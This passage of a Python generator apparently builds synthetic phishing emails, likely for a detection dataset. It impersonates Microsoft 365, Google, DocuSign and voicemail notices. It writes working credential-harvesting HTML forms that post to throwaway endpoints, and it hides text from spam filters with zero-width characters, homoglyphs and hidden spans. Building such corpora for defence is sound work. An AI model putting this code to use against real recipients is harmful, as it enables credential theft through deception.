                f"https://cloudflare-ipfs.com/ipfs/{cid}?filename={w}.html",
                f"https://gateway.pinata.cloud/ipfs/{cid}",
            ]
        )
    if style == 1:
        return f"https://{w}-{rs(r, 6, LOWER)}.pages.dev/{path}"
    if style == 2:
        return f"https://{rs(r, 8, string.ascii_lowercase)}.{rs(r, 9, string.ascii_lowercase)}.workers.dev/{path}"
    if style == 3:
        return f"https://{w}-{rs(r, 5, LOWER)}.web.app/{path}"
    if style == 4:
        return f"https://{rs(r, 4, string.ascii_lowercase)}{w}-{digits(r, 4)}.firebaseapp.com/{path}"
    if style == 5:
        return f"https://{rs(r, 10, string.ascii_lowercase)}{digits(r, 2)}.blob.core.windows.net/$web/{r.choice(['index.html', 'doc.html', 'ms.html'])}"
    if style == 6:
        return f"https://pub-{rs(r, 32, HEX)}.r2.dev/{r.choice(['index.html', 'login.html', w + '.html'])}"
    if style == 7:
        return f"https://{rs(r, 4, HEX)}-{r.choice(['203-0-113', '198-51-100'])}-{r.randint(2, 250)}.ngrok-free.app/{path}"
    if style == 8:
        _, d = r.choice(COMPROMISED)
        return f"https://{d}/{r.choice(['wp-content/uploads/2024/', 'wp-includes/js/', 'images/', '.well-known/', 'old/', 'cgi-bin/'])}{rs(r, 6, LOWER)}/{r.choice(['index.php', 'login.html', '', 'auth.php'])}"
    if style == 9:
        return f"https://{w}.{r.choice(['login', 'account', 'secure', 'auth'])}.{throwaway_domain(r)}/{path}"
    if style == 10:
        return f"https://{rs(r, 7, LOWER)}.{throwaway_domain(r)}/{rs(r, 8, LOWER)}/{path}"
    if style == 11:
        return f"https://{w}{r.choice(['-verify', '-secure', 'online', '-support', '-portal'])}.{r.choice(['com', 'net', 'co', 'top', 'app', 'info'])}/{path}"
    if style == 12:
        return f"https://{rs(r, 10, LOWER)}.vercel.app/{path}"
    if style == 13:
        return f"https://sites.google.com/view/{w}-{rs(r, 6, LOWER)}/home"
    if style == 14:
        return f"https://{rs(r, 6, LOWER)}.{r.choice(['weebly.com', 'wixsite.com/' + w, 'glitch.me', 'netlify.app', 'github.io', 'framer.website', 'webflow.io'])}/"
    return f"http://{ipdoc(r)}/{w}/{path}"


def redirect(r: random.Random, url: str) -> str:
    from urllib.parse import quote

    style = r.randrange(10)
    if style == 0:
        return f"https://www.google.com/url?sa=t&url={quote(url, safe='')}&usg=AOvVaw{rs(r, 22, ALNUM)}"
    if style == 1:
        return f"https://www.bing.com/ck/a?!&&p={rs(r, 64, HEX)}JmltdHM9{digits(r, 10)}&ptn=3&u=a1{base64.urlsafe_b64encode(url.encode()).decode().rstrip('=')}&ntb=1"
    if style == 2:
        return f"https://www.linkedin.com/slink?code={rs(r, 8, ALNUM)}"
    if style == 3:
        return f"https://ad.doubleclick.net/ddm/trackclk/N{digits(r, 7)}.{digits(r, 6)}/B{digits(r, 8)}.{digits(r, 9)};dc_trk_aid={digits(r, 9)};dc_trk_cid={digits(r, 9)};dc_lat=;dc_rdid=;tag_for_child_directed_treatment=;tfua=?{url}"
    if style == 4:
        return f"https://{r.choice(['bit.ly', 'tinyurl.com', 't.ly', 'rebrand.ly', 'cutt.ly', 'is.gd', 'shorturl.at', 'rb.gy', 'qrco.de', 'l.ead.me'])}/{rs(r, r.randint(5, 8), ALNUM)}"
    if style == 5:
        return f"https://t.co/{rs(r, 10, ALNUM)}"
    if style == 6:
        return f"https://www.youtube.com/redirect?event=comments&q={quote(url, safe='')}&redir_token={rs(r, 40, ALNUM)}"
    if style == 7:
        return f"https://clicks.{r.choice(['mlsend', 'aweber', 'mailgun'])}.example.com/ls/click?upn={rs(r, 60, ALNUM + '-_')}"
    if style == 8:
        return f"https://nam{r.randint(2, 12)}.safelinks.protection.outlook.com/?url={quote(url, safe='')}&data=05%7C02%7C%7C{rs(r, 32, HEX)}&reserved=0"
    return f"https://l.facebook.com/l.php?u={quote(url, safe='')}&h=AT{rs(r, 30, ALNUM)}"


def lure_link(r: random.Random, word: str, rcpt: str) -> str:
    url = with_rcpt(r, host_url(r, word), rcpt)
    if r.random() < 0.35:
        url = redirect(r, url)
    return url


ZW = ["\u200b", "\u200c", "\u200d", "\ufeff", "\u00ad", "\u2060"]
HOMO = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "x": "\u0445",
    "i": "\u0456",
    "y": "\u0443",
    "M": "\u041c",
    "O": "\u041e",
    "A": "\u0391",
    "T": "\u0422",
    "B": "\u0412",
}
FILLER = [
    "the",
    "autumn",
    "river",
    "ledger",
    "quiet",
    "morning",
    "harbour",
    "velvet",
    "garden",
    "seventeen",
    "compass",
    "lantern",
    "orchard",
    "meadow",
    "cobalt",
    "violin",
    "thunder",
    "kettle",
    "parcel",
    "marble",
]


def zw(r: random.Random, s: str) -> str:
    out = []
    for ch in s:
        out.append(ch)
        if ch.isalpha() and r.random() < 0.35:
            out.append(r.choice(ZW))
    return "".join(out)


def homo(r: random.Random, s: str) -> str:
    return "".join(HOMO[c] if c in HOMO and r.random() < 0.45 else c for c in s)


def split_tags(r: random.Random, s: str) -> str:
    out = []
    i = 0
    while i < len(s):
        n = r.randint(1, 4)
        out.append(f"<span>{esc(s[i : i + n])}</span>" if r.random() < 0.7 else esc(s[i : i + n]))
        i += n
    return "".join(out)


def hidden(r: random.Random) -> str:
    words = " ".join(r.choice(FILLER) for _ in range(r.randint(6, 20)))
    style = r.choice(
        [
            "display:none",
            "font-size:0px",
            "color:#ffffff;font-size:1px",
            "opacity:0;height:0;overflow:hidden",
            "visibility:hidden;mso-hide:all;max-height:0",
        ]
    )
    return f'<span style="{style}">{words}</span>'


def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def obf(r: random.Random, s: str, level: float) -> str:
    """Apply one text trick (HTML-safe output) with probability ``level``."""
    if r.random() >= level:
        return esc(s)
    t = r.randrange(4)
    if t == 0:
        return esc(zw(r, s))
    if t == 1:
        return esc(homo(r, s))
    if t == 2:
        return split_tags(r, s)
    return esc(s[: len(s) // 2]) + hidden(r) + esc(s[len(s) // 2 :])


@dataclass
class Lure:
    heading: str
    paras: list[str]
    button: str
    url: str
    shown: str = ""  # link text showing another site
    footer: str = ""
    color: str = "#0067b8"
    brand: str = ""


def render_html(r: random.Random, lu: Lure, level: float = 0.4, logo: str = "") -> str:
    head = obf(r, lu.heading, level)
    paras = "".join(f'<p style="margin:0 0 14px 0">{obf(r, p, level * 0.6)}</p>' for p in lu.paras)
    if not lu.url:
        link = ""
    elif lu.shown:
        link = f'<p><a href="{esc(lu.url)}" style="color:{lu.color}">{esc(lu.shown)}</a></p>'
    else:
        link = (
            f'<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="background:{lu.color};border-radius:3px;padding:11px 22px">'
            f'<a href="{esc(lu.url)}" style="color:#ffffff;text-decoration:none;font-weight:600" target="_blank">{obf(r, lu.button, level * 0.5)}</a></td></tr></table>'
        )
    brand = (
        f'<div style="font-size:20px;font-weight:600;color:{lu.color};margin-bottom:18px">{obf(r, lu.brand, level)}</div>'
        if lu.brand
        else ""
    )
    if logo:
        brand = f'<img src="{logo}" alt="{esc(lu.brand)}" width="120" style="margin-bottom:18px">' + brand
    pre = hidden(r) if r.random() < level * 0.5 else ""
    foot = f'<p style="font-size:11px;color:#777">{esc(lu.footer)}</p>' if lu.footer else ""
    return (
        '<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>\n'
        f'<body style="margin:0;padding:0;background:#f3f3f3">{pre}\n<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">\n'
        f'<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Segoe UI,Helvetica,Arial,sans-serif;font-size:14px;color:#222"><tr><td style="padding:28px">\n'
        f'{brand}<h2 style="font-size:19px;font-weight:600;margin:0 0 16px 0">{head}</h2>\n{paras}\n{link}\n{foot}\n</td></tr></table>\n</td></tr></table>\n</body></html>\n'
    )


def render_text(lu: Lure) -> str:
    lines = [lu.brand, "", lu.heading, ""] if lu.brand else [lu.heading, ""]
    for p in lu.paras:
        lines += [p, ""]
    lines.append(f"{lu.button}: {lu.url}" if lu.button else lu.url)
    if lu.footer:
        lines += ["", lu.footer]
    return "\n".join(lines) + "\n"


def body_for(
    r: random.Random,
    lu: Lure,
    cs: str = "utf-8",
    level: float = 0.4,
    shape: str = "",
    attachments: Sequence[Ent] = (),
) -> Ent:
    shape = shape or r.choice(["alt", "alt", "alt", "html", "html", "plain"])
    cte = r.choice(["quoted-printable", "quoted-printable", "base64", "7bit"])
    if shape == "plain":
        main = leaf("text/plain", render_text(lu), cs, cte)
    elif shape == "html":
        main = leaf("text/html", render_html(r, lu, level), cs, cte)
    else:
        main = multi(
            r,
            "alternative",
            [
                leaf("text/plain", render_text(lu), cs, cte),
                leaf("text/html", render_html(r, lu, level), cs, cte),
            ],
        )
    if attachments:
        return multi(r, "mixed", [main, *attachments])
    return main


def html_form_attachment(r: random.Random, brand: str, rcpt: str, post: str, title: str = "") -> bytes:
    """HTML credential form without JavaScript; entities and hidden text used as obfuscation."""
    title = title or f"{brand} - Sign in"
    ent = "".join(f"&#{ord(c)};" if r.random() < 0.5 else c for c in title)
    junk = hidden(r)
    return (
        f'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>{ent}</title>\n'
        "<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.b{width:380px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right}</style></head>\n"
        f'<body>{junk}<div class="b"><h3>{ent}</h3><p>{esc(rcpt)}</p>\n'
        f'<form method="POST" action="{esc(post)}">\n<input type="hidden" name="u" value="{esc(rcpt)}">\n<input type="hidden" name="src" value="{rs(r, 10, LOWER)}">\n'
        '<input type="password" name="p" placeholder="Password" required>\n'
        f'<p style="font-size:12px">{esc(r.choice(["Because you are accessing sensitive info, you need to verify your password.", "Your session has expired. Enter your password to view the document.", "Confirm your identity to continue."]))}</p>\n'
        '<button type="submit">Sign in</button></form></div></body></html>\n'
    ).encode()


def post_url(r: random.Random) -> str:
    return r.choice(
        [
            f"https://{throwaway_domain(r)}/{r.choice(['next.php', 'post.php', 'api/log', 'submit', 'gate.php'])}",
            f"https://{r.choice(COMPROMISED)[1]}/wp-admin/css/{rs(r, 5, LOWER)}/next.php",
            f"https://formsubmit.co/{rs(r, 32, HEX)}",
            f"https://{rs(r, 8, string.ascii_lowercase)}.{rs(r, 6, string.ascii_lowercase)}.workers.dev/",
            f"https://api.telegram-relay.{r.choice(THROW_TLDS)}/bot{digits(r, 10)}/send",
        ]
    )


def svg_attachment(r: random.Random, brand: str, url: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="260" viewBox="0 0 600 260">\n'
        '<rect width="600" height="260" fill="#f5f5f5"/>\n'
        f'<text x="30" y="60" font-family="Arial" font-size="22" fill="#222">{esc(brand)}</text>\n'
        f'<text x="30" y="110" font-family="Arial" font-size="15" fill="#444">{esc(r.choice(["1 secure document is waiting for you", "Remittance advice attached - click to view", "Encrypted message: click to open"]))}</text>\n'
        f'<a xlink:href="{esc(url)}" href="{esc(url)}"><rect x="30" y="150" width="220" height="44" fill="#0067b8" rx="3"/>'
        '<text x="60" y="178" font-family="Arial" font-size="15" fill="#fff">View Document</text></a>\n</svg>\n'
    ).encode()


# --------------------------------------------------------------------------------------------
# Common send helper


def send(
    r: random.Random,
    brand: str,
    brand_dom: str,
    subject: str,
    ent_or_lure: Ent | Lure,
    rcpt: str,
    kind: str = "",
    cs: str = "utf-8",
    reply_to: str = "",
    local: str = "",
    frm: str = "",
    route: Route | None = None,
    bcc: bool | None = None,
    extra: Sequence[Hdr] = (),
    level: float = 0.4,
    attachments: Sequence[Ent] = (),
    shape: str = "",
    dt: datetime | None = None,
    disp: str = "",
) -> bytes:
    dt = dt or rdate(r)
    if frm and route:
        rt = route
    else:
        frm, rt, kind = pick_sender(r, brand, brand_dom, kind, local, disp)
    if isinstance(ent_or_lure, Lure):
        ent = body_for(r, ent_or_lure, cs, level, shape, attachments)
    else:
        ent = ent_or_lure
    if not reply_to and r.random() < 0.15:
        reply_to = f"{rs(r, 8, string.ascii_lowercase)}{digits(r, 2)}@{r.choice(FREEMAIL)}"
    hs = base_headers(r, frm, rcpt, subject, dt, rt.from_dom, cs, reply_to, bcc, extra)
    return deliver(r, rt, rcpt, dt, hs, ent)


def ref(r: random.Random, prefix: str = "") -> str:
    return prefix + r.choice(
        [
            digits(r, 8),
            f"{rs(r, 3, UHEX[10:] + 'XYZ')}-{digits(r, 6)}",
            f"{digits(r, 4)}-{digits(r, 4)}",
            rs(r, 10, UHEX),
        ]
    )


def who(rcpt: str) -> str:
    return rcpt.split("@")[0].split(".")[0].title()


def doc_name(r: random.Random) -> str:
    return r.choice(
        [
            "Q3 Service Charge Reconciliation.xlsx",
            "Lease Renewal - Apt 14 Grand Canal Quay.pdf",
            "Sinking Fund Statement 2025.pdf",
            f"Payment Advice REF-{digits(r, 5)}.pdf",
            "Signed Tenancy Agreement.docx",
            "Contractor Tender Pack.zip",
            "Block Insurance Renewal.pdf",
            "Outstanding Balance Summary.xlsx",
            f"Remittance_{digits(r, 6)}.pdf",
            "Fire Safety Cert - Block C.pdf",
            "AGM Minutes draft.docx",
            "Revised Fee Proposal.pdf",
            "Bank Details Confirmation.pdf",
        ]
    )


M365_BRANDS = [
    ("Microsoft 365", "microsoft.com"),
    ("Microsoft Outlook", "outlook.com"),
    ("Microsoft", "microsoft.com"),
    ("Office 365 Admin", "office365.com"),
    ("SharePoint Online", "sharepoint.com"),
    ("OneDrive", "onedrive.com"),
    ("Microsoft account team", "accountprotection.microsoft.com"),
]


def f_m365(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    dt = rdate(r)
    brand, bdom = r.choice(M365_BRANDS)
    url = lure_link(r, r.choice(["office", "microsoft", "m365", "sharepoint", "onedrive", "outlook"]), rcpt)
    t = i % 8
    f, ln = pname(r)
    if t == 0:
        days = r.randint(0, 3)
        subj = r.choice(
            [
                f"Password Expiration Notice for {rcpt}",
                f"Your password expires in {days} day(s)",
                f"{rcpt} - Password Expiry Reminder",
                f"Action Required: Password for {rcpt} expires today",
            ]
        )
        lu = Lure(
            f"Password for {rcpt} expires {'today' if days == 0 else f'in {days} days'}",
            [
                f"The password to your Office 365 account {rcpt} is set to expire on {(dt + timedelta(days=days)).strftime('%d/%m')}.",
                "You can change your password or keep using the current password. If no action is taken, you will be logged out and unable to send or receive emails.",
                r.choice(
                    [
                        "Kindly use the button below to keep your same password.",
                        "To keep current password, click below.",
                    ]
                ),
            ],
            r.choice(["Keep Current Password", "KEEP SAME PASSWORD", "Update Now"]),
            url,
            brand=brand,
            footer=f"Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 | This email was sent to {rcpt}",
        )
    elif t == 1:
        pct = r.choice([92, 96, 98, 99, 100])
        subj = r.choice(
            [
                f"Your mailbox is {pct}% full",
                f"Mailbox storage limit reached - {rcpt}",
                "Storage Quota Alert: incoming messages suspended",
                f"ALERT: {rcpt} storage almost full",
            ]
        )
        lu = Lure(
            f"Your mailbox has reached {pct}% of its storage",
            [
                f"{rcpt} is using {round(pct * 0.5, 1)} GB of 50 GB.",
                "Once full, you will no longer be able to send or receive new messages. Incoming mail will be returned to sender.",
                "Get 5 GB of additional storage free of charge by verifying your account below.",
            ],
            r.choice(["Increase Storage", "Free up space", "Verify Account"]),
            url,
            brand=brand,
        )
    elif t == 2:
        n = r.randint(3, 17)
        subj = r.choice(
            [
                f"You have ({n}) pending incoming messages",
                f"Undelivered Messages: {n} held in quarantine",
                f"[{DOM}] {n} new messages failed to deliver",
                f"Message Center: ({n}) unread messages",
            ]
        )
        senders = [f"{pname(r)[0].lower()}@{r.choice(COMPROMISED)[1]}" for _ in range(3)]
        lu = Lure(
            f"{n} messages are held on the server",
            [
                f"Due to a synchronisation error, {n} messages sent to {rcpt} were not delivered to your inbox.",
                "Recent: "
                + "; ".join(
                    f"{s} - {r.choice(['Payment confirmation', 'RE: Invoice', 'Signed contract', 'Overdue balance', 'Meeting notes'])}"
                    for s in senders
                ),
                "Release the messages to your inbox below. Messages not released in 48 hours will be deleted.",
            ],
            r.choice(["Release Messages", "Review messages", "Deliver to Inbox"]),
            url,
            brand="Exchange Online Protection",
        )
    elif t == 3:
        doc = doc_name(r)
        subj = r.choice(
            [
                f'{f} {ln} shared "{doc}" with you',
                f"{f} {ln} has shared a file with you",
                f"Shared: {doc}",
                f'Document shared with you: "{doc}"',
            ]
        )
        lu = Lure(
            f"{f} {ln} shared a file with you",
            [
                f'"{r.choice(["Please review and confirm.", "Here is the document we discussed.", "Kindly see attached for your approval."])}"',
                f"{doc}",
                "This link only works for the direct recipients of this message.",
            ],
            "Open",
            url,
            brand="SharePoint",
            color="#036c70",
            footer="Microsoft respects your privacy. To learn more, please read our Privacy Statement.",
        )
    elif t == 4:
        n = r.randint(2, 6)
        subj = r.choice(
            [
                f"{n} files have been shared with you via OneDrive",
                f"{f} sent you files via OneDrive",
                "OneDrive: Secure documents received",
            ]
        )
        lu = Lure(
            f"{f} {ln} sent you {n} files",
            [f"{doc_name(r)} and {n - 1} other item(s)", "The files will be available for 72 hours."],
            "View files",
            url,
            brand="OneDrive",
            color="#0078d4",
            shown=r.choice(
                [
                    "",
                    f"https://{DOM.split('.')[0]}-my.sharepoint.com/:f:/g/personal/{rcpt.replace('@', '_').replace('.', '_')}",
                ]
            ),
        )
    elif t == 5:
        subj = r.choice(
            [
                "Action required: Re-register your MFA before access is blocked",
                "Multi-Factor Authentication will be disabled",
                f"Security update required for {rcpt}",
                "Your sign-in method is no longer supported",
            ]
        )
        lu = Lure(
            "Your multi-factor authentication settings must be updated",
            [
                f"As part of our security upgrade, all users on {DOM} must re-register their authenticator before {r.choice(['Friday', 'end of day', 'the 30th'])}.",
                "Failure to complete re-registration will result in loss of access to Outlook, Teams and SharePoint.",
            ],
            "Re-register now",
            url,
            brand="Microsoft Entra ID",
        )
    elif t == 6:
        subj = r.choice(
            [
                f"You have {r.randint(2, 5)} unread messages in Teams",
                f"{f} {ln} sent you a message in Microsoft Teams",
                "Missed chat from your team",
            ]
        )
        lu = Lure(
            f"{f} {ln} sent you a message",
            [
                f'"{r.choice(["Hi, can you take a look at this before the meeting?", "Urgent - please check the file I shared", "Did you see the revised figures?"])}"',
                "Reply in Teams to continue the conversation.",
            ],
            "Reply in Teams",
            url,
            brand="Microsoft Teams",
            color="#464775",
        )
    else:
        subj = r.choice(
            [
                f"Encrypted message from {f} {ln}",
                f"[Encrypt] {r.choice(['Remittance', 'Payment advice', 'Contract'])} - {ref(r)}",
                "You've received an encrypted message",
            ]
        )
        lu = Lure(
            f"{f} {ln} ({f.lower()}@{r.choice(COMPROMISED)[1]}) has sent you a protected message",
            ["To view the message, sign in with a one-time passcode or your work account."],
            "Read the message",
            url,
            brand="Microsoft Purview Message Encryption",
            footer="Message encryption by Microsoft Office 365",
        )
    return send(r, brand, bdom, subj, lu, rcpt, level=0.5, dt=dt)


def f_voicemail_fax(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    t = i % 4
    caller = f"+353 {r.choice(['1', '21', '61', '91'])} {digits(r, 3)} {digits(r, 4)}"
    dur = f"0{r.randint(0, 2)}:{r.randint(10, 59)}"
    brand = r.choice(
        [
            "Voice Mail Service",
            "RingCentral",
            "Microsoft Teams Voicemail",
            "Vonage Business",
            "eFax",
            "Cisco Unity",
            "3CX Phone System",
        ]
    )
    post = post_url(r)
    if t in (0, 1):
        subj = r.choice(
            [
                f"New Voicemail from {caller} ({dur})",
                f"Voice Message Received - {dur}",
                f"You have a new voice message from {caller}",
                f"VM-{digits(r, 6)} {rcpt}",
            ]
        )
        name = r.choice(
            [
                f"VM_{digits(r, 7)}.htm",
                f"Play_Voice_Message_{digits(r, 4)}.html",
                f"Audio_{ref(r)}.wav.html",
                f"voicemail-{rs(r, 6, LOWER)}.shtml",
                f"VM{digits(r, 5)}.svg",
            ]
        )
        if name.endswith(".svg"):
            att = attach(name, "image/svg+xml", svg_attachment(r, brand, lure_link(r, "voicemail", rcpt)))
        else:
            att = attach(
                name,
                "text/html",
                html_form_attachment(
                    r,
                    "Microsoft",
                    rcpt,
                    post,
                    r.choice(["Voice Message - Sign in to play", "Microsoft Office 365"]),
                ),
            )
        lu = Lure(
            "You received a new voice message",
            [
                f"From: {caller}",
                f"To: {rcpt}",
                f"Received: {r.choice(['Monday', 'Tuesday', 'Wednesday', 'Thursday'])} {r.randint(8, 17)}:{r.randint(10, 59)}",
                f"Duration: {dur}",
                "Open the attachment to listen to the message.",
            ],
            "",
            "",
            brand=brand,
        )
        lu.url = ""
        txt = render_text(lu).rstrip() + "\n"
        htm = render_html(r, lu, 0.3)
        shape = r.choice(["alt", "html"])
        cte = r.choice(["quoted-printable", "base64"])
        main = (
            multi(
                r,
                "alternative",
                [leaf("text/plain", txt, "utf-8", cte), leaf("text/html", htm, "utf-8", cte)],
            )
            if shape == "alt"
            else leaf("text/html", htm, "utf-8", cte)
        )
        return send(
            r,
            brand,
            "ringcentral.com" if brand == "RingCentral" else DOM,
            subj,
            multi(r, "mixed", [main, att]),
            rcpt,
            kind=r.choice(["compromised", "throwaway", "spoof"]),
        )
    if t == 2:
        pages = r.randint(1, 6)
        subj = r.choice(
            [
                f"Fax received from {caller} ({pages} pages)",
                f"Incoming eFax - {pages} page(s)",
                f"New fax document: {ref(r, 'FAX-')}",
            ]
        )
        name = r.choice(
            [f"Fax_{digits(r, 8)}.html", f"eFax_Document_{pages}pages.htm", f"Scan_{digits(r, 6)}.pdf.html"]
        )
        att = attach(
            name,
            "text/html",
            html_form_attachment(
                r, "Adobe Document Cloud", rcpt, post, "Adobe PDF Online - Sign in to view fax"
            ),
        )
        text = f"Fax Message [Caller-ID: {caller}]\n\nYou have received a {pages} page fax at {r.choice(['09', '10', '14', '16'])}:{r.randint(10, 59)}.\n\n* The reference number for this fax is {ref(r, 'dlx-')}.\n\nPlease open the attached document to view your fax.\n\nThank you for using the eFax service!\n"
        return send(
            r,
            "eFax",
            "efax.com",
            subj,
            multi(r, "mixed", [leaf("text/plain", text, "us-ascii", "7bit"), att]),
            rcpt,
            kind=r.choice(["compromised", "spoof", "throwaway"]),
        )
    # voicemail with link only, text/plain, no attachment
    url = lure_link(r, "voicemail", rcpt)
    lu = Lure(
        f"Voicemail ({dur}) from {caller}",
        ["A caller left a message in your voicemail box.", f"Listen to the recording: {url}"],
        "",
        url,
        brand=brand,
    )
    lu.button = "Play"
    return send(
        r,
        brand,
        DOM,
        f"[Voicemail] {caller} > {rcpt.split('@')[0]}",
        lu,
        rcpt,
        shape=r.choice(["plain", "html"]),
    )


def f_saas(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    f, ln = pname(r)
    t = i % 7
    doc = doc_name(r)
    if t == 0:
        url = lure_link(r, "google", rcpt)
        subj = r.choice(
            [
                "Your Google storage is full",
                "Google Workspace: Action required on your account",
                f"Critical security alert for {rcpt}",
                "Your Google account will be deleted",
            ]
        )
        lu = Lure(
            r.choice(
                [
                    "Your storage is full",
                    "Unusual sign-in attempt blocked",
                    "Your account is scheduled for deletion",
                ]
            ),
            [
                f"Google Account: {rcpt}",
                r.choice(
                    [
                        "You can no longer upload files or receive email in Gmail. Upgrade or verify your account to restore service.",
                        f"Someone just used your password to try to sign in from {r.choice(['Lagos, Nigeria', 'Moscow, Russia', 'Sao Paulo, Brazil', 'Jakarta, Indonesia'])}. Google blocked them, but you should check what happened.",
                        "Inactive accounts are deleted after 2 years. Sign in within 48 hours to keep your account.",
                    ]
                ),
            ],
            r.choice(["Check activity", "Verify now", "Keep my account"]),
            url,
            brand="Google",
            color="#1a73e8",
            footer="You received this email to let you know about important changes to your Google Account and services. (c) Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA",
        )
        return send(r, "Google", "google.com", subj, lu, rcpt)
    if t == 1:
        url = lure_link(r, "adobe", rcpt)
        subj = r.choice(
            [
                f"{f} {ln} has shared a document with you via Adobe Acrobat",
                f"Adobe Document Cloud: {doc}",
                "You have received a secure PDF document",
                f"Review: {doc}",
            ]
        )
        lu = Lure(
            f"{f} {ln} has shared a document with you",
            [
                f"{doc}",
                f"Message: {r.choice(['Please review the attached and revert.', 'Find the payment copy attached.', 'As discussed, the signed copy.'])}",
                "Adobe Acrobat PDF files are best viewed in Adobe Acrobat Online.",
            ],
            "Open",
            url,
            brand="Adobe Acrobat",
            color="#eb1000",
        )
        return send(r, "Adobe Acrobat", "adobe.com", subj, lu, rcpt)
    if t == 2:
        url = lure_link(r, "docusign", rcpt)
        subj = r.choice(
            [
                f"Please DocuSign: {doc.rsplit('.', 1)[0]}",
                f"Complete with DocuSign: {doc}",
                f"{f} {ln} sent you a document to review and sign",
                f"Action Required: e-signature needed - {ref(r)}",
            ]
        )
        lu = Lure(
            f"{f} {ln} sent you a document to review and sign.",
            [
                f"{f} {ln}",
                f"{f.lower()}@{r.choice(COMPROMISED)[1]}",
                f"Please review and complete {doc}.",
                "Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.",
            ],
            "REVIEW DOCUMENT",
            url,
            brand="DocuSign",
            color="#ffc423",
            footer=f"Alternate Signing Method: Visit DocuSign.com, click 'Access Documents', and enter the security code: {rs(r, 32, UHEX)}",
        )
        return send(r, "DocuSign", "docusign.net", subj, lu, rcpt, local="dse")
    if t == 3:
        url = lure_link(r, "dropbox", rcpt)
        subj = r.choice(
            [
                f'{f} {ln} shared "{doc}" with you',
                f'{f} invited you to view "{r.choice(["Project Files", "Accounts 2025", "Tender Documents"])}"',
                "Dropbox: You have new files",
            ]
        )
        lu = Lure(
            f"{f} {ln} shared a file with you",
            [f"{doc}", f"{r.randint(1, 9)}.{r.randint(1, 9)} MB"],
            "View file",
            url,
            brand="Dropbox",
            color="#0061ff",
            footer="(c) Dropbox, Inc. 1800 Owens St, San Francisco, CA 94158",
        )
        return send(r, "Dropbox", "dropbox.com", subj, lu, rcpt)
    if t == 4:
        url = lure_link(r, "wetransfer", rcpt)
        n = r.randint(2, 9)
        subj = r.choice(
            [
                f"{f.lower()}@{r.choice(COMPROMISED)[1]} sent you files via WeTransfer",
                f"{n} files ({r.randint(12, 480)} MB) received",
                "Your files are about to expire",
            ]
        )
        lu = Lure(
            f"{n} files received",
            [
                f"{doc} and {n - 1} more",
                f"Download link expires in {r.randint(1, 6)} days",
                f"Message: {r.choice(['Project documents for your review', 'Drawings and final invoice', 'Scans as requested'])}",
            ],
            "Get your files",
            url,
            brand="WeTransfer",
            color="#409fff",
            shown=r.choice(["", f"https://we.tl/t-{rs(r, 10, ALNUM)}"]),
        )
        return send(r, "WeTransfer", "wetransfer.com", subj, lu, rcpt)
    if t == 5:
        url = lure_link(r, "sharefile", rcpt)
        acct = f"{r.choice(['Murray', 'Keane', 'Phelan', 'Rowe'])} & {r.choice(['Co', 'Associates', 'Partners'])} Chartered Accountants"
        subj = r.choice(
            [
                "Documents from your accountant",
                f"{acct} has shared tax documents with you",
                "Year-end accounts ready for your review",
                "Your 2024 financial statements",
            ]
        )
        lu = Lure(
            f"{acct} sent you documents",
            [
                f"Hi {who(rcpt)},",
                "We have uploaded your year-end accounts and the corporation tax computation to the secure portal. Please review and sign off by Friday so we can file on time.",
                "You will need to sign in with your email account to access the portal.",
            ],
            "Access Documents",
            url,
            brand="ShareFile",
            color="#3fae2a",
            footer=f"{acct} | Secure file exchange",
        )
        return send(
            r, acct, "sharefile.com", subj, lu, rcpt, kind=r.choice(["compromised", "m365", "lookalike"])
        )
    url = lure_link(r, "box", rcpt)
    brand = r.choice(["Box", "Zoom", "Slack", "DocSend", "Smartsheet", "Egnyte"])
    subj = r.choice(
        [
            f"{f} {ln} shared an item with you on {brand}",
            f"{brand}: New document awaiting review",
            f"{brand} - Recording available",
        ]
    )
    lu = Lure(
        f"{f} {ln} invited you to collaborate",
        [f'"{doc}"', "Sign in to view or download."],
        "Open in " + brand,
        url,
        brand=brand,
    )
    return send(r, brand, brand.lower() + ".com", subj, lu, rcpt)


def f_webmail(r: random.Random, i: int) -> bytes:
    rcpt = recipient(r)
    dt = rdate(r)
    url = lure_link(r, DOM.split(".")[0], rcpt)
    t = i % 5
    local = rcpt.split("@")[0]
    brand = r.choice(
        [
            f"{DOM} Webmail",
            f"{DOM} Mail Admin",
            "IT Support",
            f"{DOM} Server",
            "Mail Delivery System",
            f"{DOM.split('.')[0].upper()} Helpdesk",
        ]
    )
    if t == 0:
        subj = r.choice(
            [
                f"{DOM} Account Deactivation Notice",
                f"Final notice: {rcpt} will be deactivated",
                f"Webmail account {local} scheduled for closure",
            ]
        )
        lu = Lure(
            f"Dear {local},",
            [
                f"We received a request to deactivate your {DOM} email account. The request will be processed within 24 hours.",
                "If you did not make this request, cancel it immediately to keep your mailbox and all its contents.",
            ],
            "CANCEL REQUEST",
            url,
            brand=DOM,
            footer=f"(c) {dt.year} {DOM} Email Services",
        )
    elif t == 1:
        subj = r.choice(
            [
                f"{DOM} - Server Upgrade / Mailbox Migration",
                f"Mail server maintenance for {DOM} users",
                f"Re-validate your {DOM} mailbox",
            ]
        )
        lu = Lure(
            f"Mailbox migration for {rcpt}",
            [
                f"All {DOM} mailboxes are being migrated to our new server. To avoid service interruption, please validate your login details.",
